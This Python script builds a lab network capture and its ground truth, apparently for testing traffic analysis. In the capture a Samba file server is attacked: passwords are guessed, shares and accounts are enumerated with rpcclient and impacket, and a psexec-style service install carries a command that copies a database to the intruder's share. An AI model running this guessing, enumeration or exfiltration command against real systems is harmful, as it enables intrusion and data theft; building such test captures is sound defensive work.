"""Make windows.pcapng and its ground truth: ``python -m sample_captures.make.windows [FOLDER]`` (root; about 20 seconds).

samba's smbd serves files. A person reads and writes some, once in the clear and once encrypted. An intruder guesses a password,
lists shares and accounts (DCERPC over named pipes: srvsvc, samr, lsarpc), asks the endpoint mapper over TCP, and tries to install
a service through svcctl as psexec does; samba has no such operation and answers with a fault, after the command line was sent.
"""

from __future__ import annotations

import json
import sys
import time
from importlib.metadata import version
from pathlib import Path
from typing import Any

from sample_captures.make import samba
from sample_captures.make.lab import Lab
from sample_captures.make.recording import Sample, Truth, command_line, record

HOSTS = {
    "files": ("10.40.3.10", "file server"),
    "desk": ("10.40.3.21", "a person's workstation"),
    "jump": ("10.40.3.66", "intruder's foothold"),
}
SERVER = HOSTS["files"][0]
PERSON = ("quillfeather", "Pewter-Canyon-12")
MASTER = ("root", "Saffron-Glacier-90")
GUESSES = ("Pewter-Canyon-11", "Winter-Lantern-1", "Saffron-Glacier-89")
READ = "minutes of the heron committee: sell the lighthouse"
WRITTEN = "draft: nobody must learn of the second lighthouse"
SEALED = "the key to the lighthouse is under the third tile"
COMMAND = "cmd.exe /c copy C:\\ledger-osprey.db \\\\10.40.3.66\\out"
SHARES = {"staff": ("papers", PERSON[0]), "vault": ("for masters", MASTER[0])}


def prepare(lab: Lab) -> None:
    """smbd with its shares and accounts, and the papers in them."""
    samba.start(lab, "files", SERVER, SHARES, dict((PERSON, MASTER)))
    papers = {"minutes.txt": READ + "\n" + "aye\n" * 400, "sealed.txt": SEALED + "\n" * 50}
    for name, text in papers.items():
        (lab.folder / "staff" / name).write_text(text)
    (lab.folder / "draft.txt").write_text(WRITTEN + "\n" + "to be continued\n" * 300)


def visit(lab: Lab, truth: Truth, who: str, words: list[str], *, program: str = "", check: bool = True, **more: Any) -> str:
    """Run a client that speaks to smbd; notes the one connection that smbd's log tells of. Returns the client's stdout."""
    before = len(samba.logons(lab.text("samba.log")))
    began = round(time.time(), 3)
    said = lab.run(who, words, check=check)
    (logon,) = samba.logons(lab.text("samba.log"))[before:]
    truth.add(
        who=who, program=program or words[0], time=began, proto="tcp", src=logon.source, src_port=logon.port, dst=SERVER,
        dst_port=445, service="smb", outcome="completed", user=logon.account, login=logon.status == "NT_STATUS_OK",
        status=logon.status, **more,
    )  # fmt: skip
    return said


def smbclient(account: tuple[str, str], *words: str) -> list[str]:
    """smbclient's arguments, under a workstation's name of our own."""
    return ["smbclient", "-s", "/dev/null", "-n", "DESK", "-W", "WORKS", "-p", "445", "-U", "%".join(account), *words]


def impacket(script: str, account: tuple[str, str], *words: str) -> list[str]:
    """One of impacket's scripts, which pip puts beside the interpreter."""
    path = Path(sys.executable).with_name(script)
    return [sys.executable, str(path), f"WORKS/{account[0]}:{account[1]}@{SERVER}", *words]


def office(lab: Lab, truth: Truth) -> None:
    """The person lists, reads and writes; the second time all is encrypted."""
    truth.step("a person at work")
    truth.plant(PERSON[0], "user", clear=True, encoding="utf-16-le")
    truth.plant(PERSON[1], "password", clear=False)
    listed = visit(lab, truth, "desk", smbclient(PERSON, "-L", SERVER), pipe="srvsvc")
    truth.connections[-1]["shares"] = [share for share in (*SHARES, "IPC$") if share in listed]
    for text in (READ, WRITTEN):
        truth.plant(text, "body", clear=True)
    truth.plant(SEALED, "body", clear=False)
    draft = lab.folder / "draft.txt"
    copied = f"ls; get minutes.txt {lab.folder}/got.txt; put {draft} draft.txt"
    visit(lab, truth, "desk", smbclient(PERSON, f"//{SERVER}/staff", "-c", copied), share="staff")
    sizes = {"body_bytes": (lab.folder / "got.txt").stat().st_size, "sent_bytes": draft.stat().st_size}
    truth.connections[-1] |= sizes
    time.sleep(1)
    sealed = ("--client-protection=encrypt", "-c", f"get sealed.txt {lab.folder}/sealed.txt")
    visit(lab, truth, "desk", smbclient(PERSON, f"//{SERVER}/staff", *sealed), share="staff", encrypted=True)


def intrusion(lab: Lab, truth: Truth) -> list[str]:
    """Guessing, listing, and the attempt at a service; returns the services svcctl told of."""
    truth.step("passwords are guessed")
    for guess in GUESSES:
        truth.plant(guess, "password", clear=False)
        visit(lab, truth, "jump", smbclient((PERSON[0], guess), f"//{SERVER}/staff", "-c", "ls"), check=False)
    time.sleep(1)
    truth.step("shares and accounts are listed")
    rpc = ["rpcclient", "-s", "/dev/null", "-n", "JUMP", "-W", "WORKS", "-U", "%".join(PERSON), SERVER, "-c"]
    visit(lab, truth, "jump", [*rpc, "srvinfo; netshareenumall"], pipe="srvsvc")
    visit(lab, truth, "jump", [*rpc, "lsaquery; lookupnames root"], pipe="lsarpc")
    visit(lab, truth, "jump", [*rpc, "enumdomusers"], pipe="samr")
    visit(lab, truth, "jump", impacket("samrdump.py", PERSON), program="samrdump.py", pipe="samr", encrypted=True)
    lab.run("jump", impacket("rpcdump.py", PERSON))
    truth.add(
        who="jump", program="rpcdump.py", proto="tcp", src=HOSTS["jump"][0], src_port=None, dst=SERVER, dst_port=135,
        service="dcerpc", outcome="completed",
    )  # fmt: skip
    time.sleep(1)
    truth.step("a service is asked for")
    truth.plant(MASTER[1], "password", clear=False)
    listed = visit(
        lab, truth, "jump", impacket("services.py", MASTER, "list"), program="services.py", pipe="svcctl", encrypted=True
    )
    command = truth.plant(COMMAND, "command", clear=True, encoding="utf-16-le")
    create = [sys.executable, "-m", "sample_captures.make.svcctl", SERVER, *MASTER, command]
    answer = json.loads(visit(lab, truth, "jump", create, program="svcctl", pipe="svcctl"))
    truth.connections[-1] |= answer
    return [line.split(" - ")[0].strip() for line in listed.splitlines() if line.startswith("  ")]


def play(lab: Lab, truth: Truth) -> dict[str, Any]:
    """The person's work, then the intrusion."""
    office(lab, truth)
    return {"services": intrusion(lab, truth), "impacket": version("impacket")}


SAMPLE = Sample("windows", "bridge of 10.40.3.0/24", 24, HOSTS, ("smbd", "smbclient", "rpcclient", "dumpcap"), play, prepare)


def make(folder: Path) -> dict[str, Any]:
    """Both files into ``folder``; returns the ground truth."""
    return record(SAMPLE, folder)


if __name__ == "__main__":
    sys.exit(command_line(__doc__, make))
